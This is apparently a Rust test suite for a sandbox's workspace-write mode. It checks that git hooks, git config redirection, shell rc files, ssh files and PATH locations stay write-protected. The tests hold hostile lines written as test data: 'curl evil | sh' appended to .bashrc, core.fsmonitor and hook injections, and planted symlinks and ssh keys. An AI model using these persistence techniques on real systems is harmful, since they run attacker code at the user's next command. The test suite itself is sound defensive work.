//! workspace-write that real projects live in: the workspace root and every
//! directory stay fully usable while the protected paths (git hooks and
//! config, shell rc files, editor and agent settings) stay write-denied.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Output;

use sandbox_tests::sandbox;

struct Ws {
    _dir: tempfile::TempDir,
    root: PathBuf,
}

fn ws() -> Ws {
    let dir = tempfile::tempdir().unwrap();
    let root = fs::canonicalize(dir.path()).unwrap();
    Ws { _dir: dir, root }
}

/// The README's form: `sandbox run --mode workspace-write --workspace . -- sh -c script`.
fn run(ws: &Path, extra: &[&str], script: &str) -> Output {
    readme_form(sandbox(), ws, extra, script)
}

/// `cmd` (the `sandbox` binary, or a wrapper that runs it) with the README's
/// arguments, in `ws` as the home directory, with git's identity set.
fn readme_form(mut cmd: std::process::Command, ws: &Path, extra: &[&str], script: &str) -> Output {
    cmd.args(["run", "--mode", "workspace-write", "--workspace", "."])
        .args(extra)
        .args(["--", "/bin/sh", "-c", script])
        .current_dir(ws)
        .env("HOME", ws)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_AUTHOR_NAME", "t")
        .env("GIT_AUTHOR_EMAIL", "t@example.invalid")
        .env("GIT_COMMITTER_NAME", "t")
        .env("GIT_COMMITTER_EMAIL", "t@example.invalid")
        .output()
        .unwrap()
}

#[track_caller]
fn ok(out: &Output) -> String {
    assert!(
        out.status.success(),
        "{:?}\nstdout: {}\nstderr: {}",
        out.status,
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// git run outside the sandbox in `dir`, with `dir` as its home and no
/// system or XDG config: how the user's next git command sees the repository.
fn git(dir: &Path, args: &[&str]) -> Output {
    std::process::Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("HOME", dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env_remove("XDG_CONFIG_HOME")
        .output()
        .unwrap()
}

/// [`git`], which must succeed.
#[track_caller]
fn git_ok(dir: &Path, args: &[&str]) {
    let out = git(dir, args);
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn the_root_and_subdirectories_stay_fully_usable() {
    let w = ws();
    fs::create_dir(w.root.join(".git")).unwrap(); // protections active
    ok(&run(
        &w.root,
        &[],
        "set -e; echo 1 > new.txt; mv new.txt renamed.txt; rm renamed.txt; \
         mkdir -p build/obj; echo x > build/obj/a.o; mv build out; rm -r out; \
         ln -s target link; rm link; touch stamp; chmod +x stamp; rm stamp",
    ));
    assert!(!w.root.join("new.txt").exists() && !w.root.join("out").exists());
}

#[test]
fn make_creates_build_at_the_root() {
    let w = ws();
    fs::create_dir(w.root.join(".git")).unwrap();
    fs::write(
        w.root.join("Makefile"),
        "all: build/hello\nbuild/hello: hello.c\n\tmkdir -p build\n\tcc -o build/hello hello.c\n",
    )
    .unwrap();
    fs::write(w.root.join("hello.c"), "int main(void){return 0;}\n").unwrap();
    ok(&run(&w.root, &[], "make -s && ./build/hello"));
    assert!(w.root.join("build/hello").exists());
}

#[test]
fn git_works_in_a_fresh_and_an_existing_repository() {
    let w = ws();
    // A repository the command creates itself.
    ok(&run(
        &w.root,
        &[],
        "set -e; git init -q -b main .; echo a > a; git add a; git commit -qm one; \
         git checkout -qb feature; echo b > b; git add b; git commit -qm two; \
         echo c > a; git stash -q; git stash pop -q; git checkout -q main; git log --oneline | wc -l",
    ));
    // Now it exists before the run: hooks and config are protected, and
    // the everyday commands still work, a fetch from a local remote too.
    let remote = ws();
    ok(&run(
        &remote.root,
        &[],
        "git init -q -b main . && echo r > r && git add r && git commit -qm r",
    ));
    let out = ok(&run(
        &w.root,
        &[],
        &format!(
            "set -e; echo d > d; git add d; git commit -qm three; git branch topic; \
             git fetch -q {} main; git log --oneline | wc -l",
            remote.root.display()
        ),
    ));
    assert_eq!(out.trim(), "2", "main: one, then three");
}

#[test]
fn protected_paths_are_refused_beside_their_twins() {
    let w = ws();
    ok(&run(&w.root, &[], "git init -q -b main ."));
    fs::create_dir_all(w.root.join(".vscode")).unwrap();
    let config_before = fs::read(w.root.join(".git/config")).unwrap();
    for (attack, path) in [
        (
            "echo '#!/bin/sh' > .git/hooks/pre-commit",
            ".git/hooks/pre-commit",
        ),
        (
            "git config core.fsmonitor 'touch /tmp/pwned'",
            ".git/config",
        ),
        ("echo 'curl evil | sh' >> .bashrc", ".bashrc"),
        ("echo '{}' > .mcp.json", ".mcp.json"),
        ("echo '{}' > .vscode/settings.json", ".vscode/settings.json"),
        ("mv .git/hooks .git/old-hooks", ".git/old-hooks"),
        (
            "mkdir -p fake/hooks && rm -rf .git/hooks; mv fake/hooks .git/hooks",
            ".git/hooks/x",
        ),
        ("ln .git/config cfg && echo x >> cfg", "cfg"),
    ] {
        let out = run(&w.root, &[], attack);
        assert!(!out.status.success(), "{attack} succeeded");
        let changed = w.root.join(path);
        if path == ".git/config" || path == "cfg" {
            assert_eq!(
                fs::read(w.root.join(".git/config")).unwrap(),
                config_before,
                "{attack}"
            );
        } else if path != ".git/hooks/x" {
            assert!(!changed.exists(), "{attack} created {path}");
        }
    }
    assert!(
        w.root.join(".git/hooks").is_dir(),
        "the hooks directory is still there"
    );
    // Twins: the same writes to unprotected names work.
    ok(&run(
        &w.root,
        &[],
        "echo '#!/bin/sh' > pre-commit && echo x >> bashrc && echo '{}' > mcp.json && \
         mkdir -p vscode && echo '{}' > vscode/settings.json",
    ));
}

#[test]
fn the_real_git_directory_behind_a_git_file_is_protected() {
    let main = ws();
    ok(&run(
        &main.root,
        &[],
        "git init -q -b main . && echo a > a && git add a && git commit -qm a",
    ));
    let wt_parent = ws();
    let wt = wt_parent.root.join("wt");
    git_ok(&main.root, &["worktree", "add", "-q", wt.to_str().unwrap()]);
    let hook = main.root.join(".git/hooks/post-checkout");
    let out = run(&wt, &[], &format!("echo '#!/bin/sh' > {}", hook.display()));
    assert!(!out.status.success());
    assert!(!hook.exists());
}

/// A linked worktree under workspace-write commits (its own git directory
/// and the common directory's objects, refs and logs are writable), while
/// the common directory's hooks and config, and the main checkout, stay
/// protected. A `.git` file planted in another workspace that names the same
/// worktree directory gets no grant (the worktree's back-link names the real
/// worktree). Twin of each refusal: the commit itself.
#[test]
fn a_linked_worktree_commits_with_its_hooks_protected() {
    let main = ws();
    ok(&run(
        &main.root,
        &[],
        "git init -q -b main . && echo a > a && git add a && git commit -qm a",
    ));
    let wt_parent = ws();
    let wt = wt_parent.root.join("wt");
    git_ok(&main.root, &["worktree", "add", "-q", wt.to_str().unwrap()]);
    let common = main.root.join(".git");
    let hook = common.join("hooks/pre-commit");
    let config_before = fs::read_to_string(common.join("config")).unwrap();
    let out = run(
        &wt,
        &[],
        &format!(
            "echo b > b && git add b && git commit -qm b && echo COMMITTED
             echo '#!/bin/sh' > {hook} && echo HOOK
             echo '[core] fsmonitor = x' >> {common}/config && echo CONFIG
             echo x > {main}/a && echo MAINTREE",
            hook = hook.display(),
            common = common.display(),
            main = main.root.display()
        ),
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("COMMITTED"),
        "{text}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    for escape in ["HOOK", "CONFIG", "MAINTREE"] {
        assert!(!text.contains(escape), "{escape}: {text}");
    }
    assert!(!hook.exists());
    assert_eq!(
        fs::read_to_string(common.join("config")).unwrap(),
        config_before
    );
    assert_eq!(fs::read_to_string(main.root.join("a")).unwrap(), "a\n");
    let log = git(&wt, &["log", "--format=%s"]);
    assert_eq!(String::from_utf8_lossy(&log.stdout), "b\na\n");

    // A planted `.git` file naming the real worktree's git directory.
    let planted = ws();
    let gitdir = fs::read_to_string(wt.join(".git")).unwrap();
    fs::write(planted.root.join(".git"), gitdir).unwrap();
    let objects = common.join("objects");
    let out = run(
        &planted.root,
        &[],
        &format!("mkdir {}/planted && echo GRANTED", objects.display()),
    );
    assert!(!String::from_utf8_lossy(&out.stdout).contains("GRANTED"));
    assert!(!objects.join("planted").exists());
}

/// No symlink can be planted in a git directory (git writes through one,
/// `logs/HEAD` or a ref, at the user's next unconfined command): made
/// there, moved there or hard-linked there, in a repository and in a linked
/// worktree's common directory. Twin: a symlink elsewhere in the workspace,
/// and a plain file in the same git directory, are made.
#[test]
fn no_symlink_can_be_planted_in_a_git_directory() {
    let main = ws();
    ok(&run(
        &main.root,
        &[],
        "git init -q -b main . && echo a > a && git add a && git commit -qm a",
    ));
    let victim = main.root.join("victim");
    let script = |git: &Path| {
        format!(
            "rm -f {g}/logs/HEAD; ln -s {v} {g}/logs/HEAD && echo MADE
             ln -s {v} link-here && echo ELSEWHERE
             ln link-here {g}/refs/heads/hard 2>/dev/null && echo HARDLINKED
             mv link-here {g}/refs/heads/planted && echo MOVED
             echo x > {g}/logs/plain && echo PLAIN",
            g = git.display(),
            v = victim.display()
        )
    };
    let out = run(&main.root, &[], &script(&main.root.join(".git")));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("ELSEWHERE") && text.contains("PLAIN"),
        "{text}"
    );
    for planted in ["MADE", "MOVED", "HARDLINKED"] {
        assert!(!text.contains(planted), "{planted}: {text}");
    }
    // The same from a linked worktree, into its common directory.
    let wt_parent = ws();
    let wt = wt_parent.root.join("wt");
    git_ok(&main.root, &["worktree", "add", "-q", wt.to_str().unwrap()]);
    let out = run(&wt, &[], &script(&main.root.join(".git")));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("ELSEWHERE") && text.contains("PLAIN"),
        "{text}"
    );
    for planted in ["MADE", "MOVED", "HARDLINKED"] {
        assert!(!text.contains(planted), "{planted}: {text}");
    }
    assert!(!main.root.join(".git/logs/HEAD").is_symlink());
}

/// A nested repository the command makes, with `core.fsmonitor` set and
/// added to the parent's index, would run that command at the user's next
/// `git status` in the parent: the sandbox cannot refuse making
/// repositories, so it says so after the run, naming the repository and
/// the key. Twins: a nested repository with a plain config gets no
/// warning, and neither does one that existed before the run.
#[test]
fn a_nested_repository_that_runs_code_is_named_after_the_run() {
    let w = ws();
    ok(&run(
        &w.root,
        &[],
        "git init -q -b main . && echo a > a && git add a && git commit -qm a && \
         git init -q old && git -C old config core.fsmonitor 'true'",
    ));
    let out = run(
        &w.root,
        &[],
        "git init -q sub && git -C sub commit -q --allow-empty -m s && \
         git -C sub config core.fsmonitor 'touch /tmp/never-run-by-this-test; false' && \
         git update-index --add --cacheinfo 160000,$(git -C sub rev-parse HEAD),sub && \
         git init -q plain",
    );
    let err = String::from_utf8_lossy(&out.stderr);
    let lines: Vec<&str> = err
        .lines()
        .filter(|l| l.starts_with("sandbox: the run made a git repository"))
        .collect();
    assert_eq!(lines.len(), 1, "{err}");
    assert!(
        lines[0].contains(&format!("{}/sub ", w.root.display())),
        "{err}"
    );
    assert!(lines[0].contains("core.fsmonitor"), "{err}");
}

/// A `--secret NAME=file:PATH@HOST` file in the workspace is read-denied
/// to the command by its egress, and the git audit after the run (which
/// runs unconfined) does not read it either: a repository the command made
/// whose config includes it gets the include named "not read", never the
/// file's keys. Twin: the same include of a plain workspace file is read
/// (its `core.fsmonitor` named).
#[test]
fn the_git_audit_does_not_read_a_secret_file() {
    let w = ws();
    fs::write(w.root.join("token"), "[core] fsmonitor = x\n").unwrap();
    fs::write(w.root.join("plain"), "[core] fsmonitor = x\n").unwrap();
    let secret = format!(
        "TOKEN=file:{}@api.example.com",
        w.root.join("token").display()
    );
    let audit = |file: &str| {
        let out = run(
            &w.root,
            &[
                "--secret",
                &secret,
                "--allow-request",
                "GET https://api.example.com/**",
            ],
            // Made by hand: `git init` with a read denial in the workspace
            // fails on its `config.lock` (EEXIST), a separate matter.
            &format!(
                "cat token; echo cat=$?; g=sub_{file}/.git; \
                 mkdir -p $g/objects $g/refs/heads && \
                 echo 'ref: refs/heads/main' > $g/HEAD && \
                 printf '[include]\\n\\tpath = ../../{file}\\n' > $g/config"
            ),
        );
        let err = String::from_utf8_lossy(&out.stderr).into_owned();
        let stdout = ok(&out);
        (stdout, err)
    };
    let (stdout, err) = audit("token");
    assert!(stdout.contains("cat=1"), "{stdout}");
    let line = err
        .lines()
        .find(|l| l.contains(&format!("{}/sub_token ", w.root.display())))
        .unwrap_or_else(|| panic!("{err}"));
    assert!(line.contains("not read (outside the write paths)"), "{err}");
    assert!(!line.contains("core.fsmonitor"), "{err}");
    let (_, err) = audit("plain");
    let line = err
        .lines()
        .find(|l| l.contains(&format!("{}/sub_plain ", w.root.display())))
        .unwrap_or_else(|| panic!("{err}"));
    assert!(line.contains("core.fsmonitor"), "{err}");
}

#[test]
fn the_secrets_preset_hides_credentials_and_nothing_else() {
    let home = ws();
    fs::create_dir(home.root.join(".ssh")).unwrap();
    fs::write(home.root.join(".ssh/id_ed25519"), "secret").unwrap();
    fs::write(home.root.join("notes"), "readable").unwrap();
    let w = ws();
    let read = |flags: &[&str], file: &str| {
        sandbox()
            .args(["run", "-w"])
            .arg(&w.root)
            .args(flags)
            .args(["--", "/bin/cat"])
            .arg(home.root.join(file))
            .env("HOME", &home.root)
            .output()
            .unwrap()
    };
    assert!(!read(&["--secrets"], ".ssh/id_ed25519").status.success());
    assert_eq!(ok(&read(&["--secrets"], "notes")), "readable");
    // Twin: without the preset the key is readable (the refusal is the preset's).
    assert_eq!(ok(&read(&[], ".ssh/id_ed25519")), "secret");
    let policy = sandbox()
        .args(["policy", "--secrets"])
        .env("HOME", &home.root)
        .output()
        .unwrap();
    assert!(ok(&policy).contains(".ssh"));
}

#[test]
fn sandbox_policy_prints_the_effective_protections() {
    let w = ws();
    fs::create_dir(w.root.join(".git")).unwrap();
    let out = sandbox()
        .args(["policy", "--mode", "workspace-write", "--workspace"])
        .arg(&w.root)
        .output()
        .unwrap();
    let text = ok(&out);
    for p in [".git/hooks", ".git/config", ".bashrc", ".mcp.json"] {
        assert!(
            text.contains(&w.root.join(p).display().to_string()),
            "{p}: {text}"
        );
    }
}

/// What the broker's fixed credentials rest on (`FixedCredentials` in
/// sandbox-broker): inside the sandbox the command cannot change its ids, holds
/// no capability in any set, cannot gain one from a set-id exec, and cannot
/// enter a new user namespace. Checked as root and as nobody (the runner
/// itself dropped to uid 65534 with `setpriv`), beside the writes that work
/// and the protected path that stays refused.
#[test]
fn the_commands_credentials_cannot_change_during_the_run() {
    let script = r#"
        set -u
        fail() { echo "FAIL: $*"; exit 1; }
        # (The bounding set is emptied only for a runner that held capabilities:
        # under NO_NEW_PRIVS an exec never adds to the permitted set.)
        grep -E '^Cap(Inh|Prm|Eff|Amb):' /proc/self/status | grep -v '0000000000000000$' && fail "a capability is held"
        me=$(id -u)
        other=$(( me == 0 ? 65534 : 0 ))
        setpriv --reuid=$other --regid=$other --clear-groups true 2>/dev/null && fail "changed uid to $other"
        setpriv --euid=$other true 2>/dev/null && fail "changed euid to $other"
        setpriv --groups=4242 true 2>/dev/null && fail "changed the groups"
        unshare -U true 2>/dev/null && fail "entered a new user namespace"
        # A set-uid binary of another user (made by the test) grants nothing
        # under NO_NEW_PRIVS: its effective uid stays the caller's.
        [ "$(./suid-id -u)" = "$me" ] || fail "a set-uid exec changed the uid"
        grep -E '^Cap(Inh|Prm|Eff|Amb):' /proc/self/status | grep -v '0000000000000000$' && fail "a capability after exec"
        umask 077; : > made; ls -l made | grep -q '^-rw-------' || fail "umask"
        ( : > .git/hooks/pre-commit ) 2>/dev/null && fail "wrote a git hook"
        echo fine
    "#;
    for nobody in [false, true] {
        let w = ws();
        fs::create_dir_all(w.root.join(".git/hooks")).unwrap();
        // Set-uid to the other user: root for nobody, nobody for root.
        let suid = w.root.join("suid-id");
        sandbox_tests::copy_for_exec(Path::new("/usr/bin/id"), &suid);
        let owner = if nobody { 0 } else { 65534 };
        std::os::unix::fs::chown(&suid, Some(owner), Some(owner)).unwrap();
        fs::set_permissions(&suid, std::os::unix::fs::PermissionsExt::from_mode(0o4755)).unwrap();
        if !nobody {
            // Twin: outside the sandbox the set-uid bit takes effect.
            let bare = std::process::Command::new(&suid)
                .arg("-u")
                .output()
                .unwrap();
            assert_eq!(String::from_utf8_lossy(&bare.stdout).trim(), "65534");
        }
        let mut cmd = if nobody {
            std::os::unix::fs::chown(&w.root, Some(65534), Some(65534)).unwrap();
            std::os::unix::fs::chown(w.root.join(".git"), Some(65534), Some(65534)).unwrap();
            std::os::unix::fs::chown(w.root.join(".git/hooks"), Some(65534), Some(65534)).unwrap();
            let mut c = std::process::Command::new("setpriv");
            c.args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"])
                .arg(sandbox_tests::sandbox_bin());
            c
        } else {
            sandbox_tests::sandbox()
        };
        let out = cmd
            .args(["run", "--mode", "workspace-write", "--workspace", "."])
            .args(["--", "/bin/sh", "-c", script])
            .current_dir(&w.root)
            .env("HOME", &w.root)
            .env_remove("SANDBOX_CONFIG")
            .env("XDG_CONFIG_HOME", "/nonexistent/sandbox-tests-config")
            .output()
            .unwrap();
        assert_eq!(ok(&out).trim(), "fine", "nobody: {nobody}");
        assert!(!w.root.join(".git/hooks/pre-commit").exists());
        let made = fs::metadata(w.root.join("made")).unwrap();
        assert_eq!(
            std::os::unix::fs::MetadataExt::uid(&made),
            if nobody { 65534 } else { 0 }
        );
    }
}

/// Files that send git to another config without touching `.git/config`:
/// `.git/commondir` (git takes config and hooks from the directory it
/// names), a submodule's `.git/modules/NAME/config` (`git status` in the
/// superproject runs git in the submodule), and a worktree's `.git` file
/// (it names the git directory). Each would run `core.fsmonitor` at the
/// user's next `git status`, outside the sandbox. Twins: the same kind of
/// write to an unprotected file beside each works.
#[test]
fn files_that_redirect_gits_config_are_protected() {
    let marker = ws();
    let pwned = marker.root.join("pwned");
    let evil_config = format!(
        "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = \"touch {}; false\"\n",
        pwned.display()
    );
    let git_status = |dir: &Path| git(dir, &["status", "--porcelain"]);
    let commit = "git init -q -b main . && echo a > a && git add a && git commit -qm a";
    // A main repository with a submodule.
    let sub = ws();
    ok(&run(&sub.root, &[], commit));
    let w = ws();
    ok(&run(&w.root, &[], commit));
    git_ok(
        &w.root,
        &[
            "-c",
            "protocol.file.allow=always",
            "submodule",
            "add",
            "-q",
            sub.root.to_str().unwrap(),
            "sub",
        ],
    );
    fs::write(w.root.join("evil.config"), &evil_config).unwrap();
    let commondir = "mkdir evil && cp -r .git/objects .git/refs .git/HEAD evil/ && \
                     cp evil.config evil/config && echo ../evil > .git/commondir";
    for attack in [
        commondir,
        "cat evil.config >> .git/modules/sub/config",
        "echo x > .git/config.worktree",
    ] {
        let out = run(&w.root, &[], attack);
        assert!(!out.status.success(), "{attack} succeeded");
    }
    git_status(&w.root);
    assert!(!pwned.exists(), "git ran the command's fsmonitor");
    assert!(!w.root.join(".git/commondir").exists());
    // Twins: other files in the git directories stay writable.
    ok(&run(
        &w.root,
        &[],
        "echo x >> .git/description && echo x >> .git/modules/sub/description && echo ../x > commondir",
    ));
    // A linked worktree: its .git file names the git directory.
    let wt_parent = ws();
    let wt = wt_parent.root.join("wt");
    git_ok(&w.root, &["worktree", "add", "-q", wt.to_str().unwrap()]);
    let gitfile = fs::read(wt.join(".git")).unwrap();
    fs::write(wt.join("evil.config"), &evil_config).unwrap();
    let out = run(
        &wt,
        &[],
        &format!(
            "mkdir evil && cp -r {0}/.git/objects {0}/.git/refs {0}/.git/HEAD evil/ && \
             cp evil.config evil/config && echo 'gitdir: evil' > .git",
            w.root.display()
        ),
    );
    assert!(!out.status.success(), "rewrote the .git file");
    assert_eq!(fs::read(wt.join(".git")).unwrap(), gitfile);
    git_status(&wt);
    assert!(!pwned.exists(), "git ran the command's fsmonitor");
    // Twin: another file in the worktree stays writable.
    ok(&run(&wt, &[], "echo 'gitdir: evil' > git-file"));
}

/// A hooks directory the repository's config names (`core.hooksPath`, as
/// husky and many projects set it) runs at the user's next commit just as
/// `.git/hooks` does, so it is protected the same way. Twin: in a repository
/// without the setting the same directory is an ordinary one.
#[test]
fn the_configured_hooks_directory_is_protected() {
    let marker = ws();
    let pwned = marker.root.join("pwned");
    let attack = format!(
        "printf '#!/bin/sh\\ntouch {}\\n' > .githooks/pre-commit && chmod +x .githooks/pre-commit",
        pwned.display()
    );
    let w = ws();
    ok(&run(
        &w.root,
        &[],
        "git init -q -b main . && mkdir .githooks",
    ));
    git_ok(&w.root, &["config", "core.hooksPath", ".githooks"]);
    let out = run(&w.root, &[], &attack);
    assert!(
        !out.status.success(),
        "wrote the configured hooks directory"
    );
    fs::write(w.root.join("a"), "a").unwrap();
    git_ok(&w.root, &["add", "a"]);
    git_ok(
        &w.root,
        &[
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@example.invalid",
            "commit",
            "-qm",
            "a",
        ],
    );
    assert!(!pwned.exists(), "git ran the command's hook");
    // Twin: without core.hooksPath, .githooks is an ordinary directory.
    let plain = ws();
    ok(&run(
        &plain.root,
        &[],
        "git init -q -b main . && mkdir .githooks",
    ));
    ok(&run(&plain.root, &[], &attack));
    assert!(plain.root.join(".githooks/pre-commit").exists());
}

/// With the home directory as the workspace, git's XDG user config
/// (`~/.config/git/config`, read as `~/.gitconfig` is) and the ssh files
/// that run or admit code are protected like the shell rc files. Twins:
/// beside them, `~/.config/other` and `~/.ssh/known_hosts` stay writable.
#[test]
fn home_config_that_runs_code_is_protected() {
    let marker = ws();
    let pwned = marker.root.join("pwned");
    let w = ws();
    ok(&run(&w.root, &[], "git init -q -b main ."));
    for attack in [
        format!(
            "mkdir -p .config/git && printf '[core]\\n\\tfsmonitor = \"touch {}; false\"\\n' \
             > .config/git/config",
            pwned.display()
        ),
        "mkdir -p .ssh && echo 'ssh-ed25519 AAAA evil' >> .ssh/authorized_keys".to_owned(),
        "mkdir -p .ssh && echo 'touch /tmp/x' > .ssh/rc".to_owned(),
        "mkdir -p .config && echo 'echo evil' > fish && mkdir -p .config/fish".to_owned(),
        "mkdir -p .config/systemd/user".to_owned(),
        "mkdir -p .config/autostart".to_owned(),
    ] {
        let out = run(&w.root, &[], &attack);
        assert!(!out.status.success(), "{attack} succeeded");
    }
    for path in [
        ".config/git/config",
        ".ssh/authorized_keys",
        ".ssh/rc",
        ".config/fish",
        ".config/systemd",
        ".config/autostart",
    ] {
        assert!(!w.root.join(path).exists(), "{path}");
    }
    git(&w.root, &["status", "--porcelain"]);
    assert!(!pwned.exists(), "git ran the command's fsmonitor");
    ok(&run(
        &w.root,
        &[],
        "mkdir -p .config/other .ssh && echo x > .config/other/f && echo h >> .ssh/known_hosts",
    ));
}

/// With the home directory as the workspace, what runs at the user's next
/// command there is protected too: a `git` planted on the PATH, Python's user
/// site, a cargo config; the same names inside a project stay writable.
#[test]
fn the_home_directorys_path_and_tool_configs_are_protected() {
    let w = ws();
    for attack in [
        "mkdir -p .local/bin && printf '#!/bin/sh\\ntouch pwned\\n' > .local/bin/git",
        "mkdir -p bin && echo x > bin/ls",
        "mkdir -p .local/lib/python3/site-packages",
        "mkdir -p .cargo && echo '[build]' > .cargo/config.toml",
        "echo 'set editing-mode vi' > .inputrc",
    ] {
        let out = run(&w.root, &[], attack);
        assert!(!out.status.success(), "{attack} succeeded");
    }
    for path in [
        ".local/bin",
        "bin",
        ".local/lib",
        ".cargo/config.toml",
        ".inputrc",
    ] {
        assert!(!w.root.join(path).exists(), "{path}");
    }
    ok(&run(
        &w.root,
        &[],
        "mkdir -p .local/share .cargo/registry proj/bin proj/.cargo && echo x > .local/share/f && \
         echo x > proj/bin/tool && echo '[build]' > proj/.cargo/config.toml",
    ));
}

/// [`run`] as nobody (`setpriv`), the workspace given to nobody first.
fn run_as_nobody(ws: &Path, script: &str) -> Output {
    let chown = std::process::Command::new("chown")
        .args(["-R", "65534:65534"])
        .arg(ws)
        .status()
        .unwrap();
    assert!(chown.success());
    readme_form(sandbox_tests::sandbox_as_nobody(), ws, &[], script)
}

/// Every git directory in the workspace that existed before the run keeps
/// what makes git run programs, wherever it lies: a nested clone (recorded
/// in the parent as a gitlink, so the user's next `git status` in the
/// parent runs git there), a repository whose `.git` file points to a git
/// directory elsewhere in the workspace, and a bare repository. Each attack
/// (a config key appended, `git config`, a hook, the hooks directory moved,
/// `HEAD` removed, the config hard-linked or its mode changed, the `.git`
/// file rewritten) is refused and leaves nothing for git to run; the twins
/// in the same runs work: commits and branches in the nested repository, a
/// project's own `src/hooks`, and a repository the run makes itself. As
/// root and as nobody.
#[test]
fn every_git_directory_in_the_workspace_is_protected() {
    let attacks = r#"
        bad() { echo "BAD: $1"; }
        for g in vendor/lib/.git .sep bare.git; do
            { printf '[core]\n\tfsmonitor = "touch %s/ran"\n' "$PWD" >> $g/config; } 2>/dev/null && bad "appended to $g/config"
            { echo '#!/bin/sh' > $g/hooks/pre-commit; } 2>/dev/null && bad "wrote a hook in $g"
            mv $g/hooks $g/h2 2>/dev/null && bad "moved $g/hooks"
            rm -f $g/HEAD 2>/dev/null; [ -e $g/HEAD ] || bad "removed $g/HEAD"
            ln $g/config cfg-link 2>/dev/null && bad "linked $g/config"
            chmod 666 $g/config 2>/dev/null && bad "chmod $g/config"
            { true > $g/config.worktree; } 2>/dev/null && bad "made $g/config.worktree"
        done
        git -C vendor/lib config core.fsmonitor "touch $PWD/ran" 2>/dev/null && bad "git config"
        { echo "gitdir: $PWD/evil" > sub/.git; } 2>/dev/null && bad "rewrote sub/.git"
        echo x > vendor/lib/f && git -C vendor/lib add f && git -C vendor/lib commit -qm f && echo ok-commit
        git -C vendor/lib checkout -q -b topic && echo ok-branch
        mkdir -p src/hooks && echo 'export default 1' > src/hooks/useX.js && echo ok-src-hooks
        git init -q mine && git -C mine config user.name me && echo ok-own-repo
    "#;
    let users: &[bool] = if unsafe { libc::geteuid() } == 0 {
        &[false, true]
    } else {
        &[false]
    };
    for &nobody in users {
        let w = ws();
        git_ok(&w.root, &["init", "-q", "-b", "main", "."]);
        git_ok(&w.root, &["init", "-q", "-b", "main", "vendor/lib"]);
        git_ok(
            &w.root.join("vendor/lib"),
            &[
                "-c",
                "user.name=t",
                "-c",
                "user.email=t@example.invalid",
                "commit",
                "-q",
            ]
            .into_iter()
            .chain(["--allow-empty", "-m", "a"])
            .collect::<Vec<_>>(),
        );
        git_ok(
            &w.root,
            &["init", "-q", "--separate-git-dir", ".sep", "sub"],
        );
        git_ok(&w.root, &["init", "-q", "--bare", "bare.git"]);
        let configs: Vec<Vec<u8>> = ["vendor/lib/.git/config", ".sep/config", "bare.git/config"]
            .iter()
            .map(|c| fs::read(w.root.join(c)).unwrap())
            .collect();
        let out = if nobody {
            run_as_nobody(&w.root, attacks)
        } else {
            run(&w.root, &[], attacks)
        };
        let stdout = ok(&out);
        assert!(!stdout.contains("BAD"), "nobody {nobody}: {stdout}");
        for twin in ["ok-commit", "ok-branch", "ok-src-hooks", "ok-own-repo"] {
            assert!(stdout.contains(twin), "nobody {nobody}: {twin} in {stdout}");
        }
        for (c, before) in ["vendor/lib/.git/config", ".sep/config", "bare.git/config"]
            .iter()
            .zip(&configs)
        {
            assert_eq!(&fs::read(w.root.join(c)).unwrap(), before, "{c}");
        }
        // The user's next git commands there run nothing planted.
        for repo in ["vendor/lib", "sub"] {
            git_ok(&w.root.join(repo), &["-c", "safe.directory=*", "status"]);
        }
        assert!(!w.root.join("ran").exists());
    }
}

/// The repositories the run makes are named after it exactly, however they
/// hide what they run: in `node_modules` or `target`, seven levels down,
/// behind `include.path`, in `config.worktree`, or moved after they were
/// made. Twins: a repository the run makes with a plain config, and one
/// that existed before the run, are not named.
#[test]
fn repositories_made_during_the_run_are_named_wherever_they_are() {
    let w = ws();
    git_ok(&w.root, &["init", "-q", "-b", "main", "."]);
    git_ok(&w.root, &["init", "-q", "old"]);
    let script = r#"
        set -e
        fsm() { git -C "$1" config core.fsmonitor 'false'; }
        git init -q node_modules/x && fsm node_modules/x
        git init -q target/x && fsm target/x
        git init -q a/b/c/d/e/f/g/deep && fsm a/b/c/d/e/f/g/deep
        git init -q inc && printf '[diff "d"]\n\ttextconv = cat\n' > inc/inc-file && git -C inc config include.path ../inc-file
        git init -q wt && git -C wt config extensions.worktreeConfig true && printf '[core]\n\tpager = cat\n' > wt/.git/config.worktree
        git init -q before-move && fsm before-move && mv before-move after-move
        git init -q plain
    "#;
    let out = run(&w.root, &[], script);
    ok(&out);
    let err = String::from_utf8_lossy(&out.stderr);
    let named: Vec<&str> = err
        .lines()
        .filter(|l| l.starts_with("sandbox: the run made a git repository at "))
        .collect();
    for (at, what) in [
        ("node_modules/x", "core.fsmonitor"),
        ("target/x", "core.fsmonitor"),
        ("a/b/c/d/e/f/g/deep", "core.fsmonitor"),
        ("inc", "diff.d.textconv"),
        ("wt", "core.pager"),
        ("after-move", "core.fsmonitor"),
    ] {
        let at = format!("at {}/{at} whose", w.root.display());
        assert!(
            named.iter().any(|l| l.contains(&at) && l.contains(what)),
            "{at} {what}: {err}"
        );
    }
    assert_eq!(named.len(), 6, "{err}");
}

/// Ways to make a repository the after-run check might miss (red team): a
/// directory from before the run filled as a repository with its config
/// written before `HEAD`, a `HEAD` made by `mknod` or as a symlink, and a
/// repository made after 256 others; each is named. And a git directory
/// from before the run cannot be made to look like none by exchanging a
/// file with its `objects` (`RENAME_EXCHANGE`), so its config stays
/// unwritable. Twin: the same exchange between two plain directories works.
#[test]
fn repositories_made_by_other_means_are_named_and_old_ones_stay_old() {
    let w = ws();
    git_ok(&w.root, &["init", "-q", "-b", "main", "."]);
    git_ok(&w.root, &["init", "-q", "-b", "main", "nested"]);
    fs::create_dir_all(w.root.join("old-plain")).unwrap();
    let script = r#"
        set -e
        fill() { mkdir -p "$1/objects" "$1/refs"; printf '[core]\n\tfsmonitor = false\n' > "$1/config"; }
        fill old-plain
